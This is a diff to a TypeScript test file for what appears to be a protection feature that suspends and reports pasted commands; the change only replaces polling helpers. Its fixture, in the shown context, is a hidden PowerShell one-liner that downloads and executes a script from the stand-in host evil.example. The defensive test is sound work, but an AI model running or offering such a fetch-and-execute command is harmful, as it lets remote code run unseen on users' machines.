@@ -4,7 +4,7 @@ import { WAITING_MAX } from '../protection/waiting-starts.ts';
 import { agentForTest, linked, type TestAgent } from '../testing/agent.ts';
 import { browserOf } from '../testing/browser.ts';
 import type { TestServer } from '../testing/server.ts';
-import { until } from '../testing/until.ts';
+import { until, untilCount } from '../testing/until.ts';
 
 const hour = 3_600_000;
 const pasted = 'powershell -w hidden -c "iex (irm https://evil.example/a)"';
@@ -165,8 +165,8 @@ it('[P12.4] the window says that it waits and for whom, and has no button that a
 it('of 1,000 pasted commands fifty wait, the others end at once, and all are reported', async () => {
   const { server, test } = await household();
   const all = Array.from({ length: 1000 }, (_, n) => start(test, `${pasted} # ${n}`));
-  await until('the reports', () => reported(server).length === 1000);
-  await until('the end of the others', () => all.filter((one) => runs(test, one)).length === WAITING_MAX);
+  await untilCount('the reports', 1000, () => reported(server).length);
+  await untilCount('the end of the others', WAITING_MAX, () => all.filter((one) => runs(test, one)).length);
   expect(suspended(test)).toHaveLength(WAITING_MAX);
 });
 
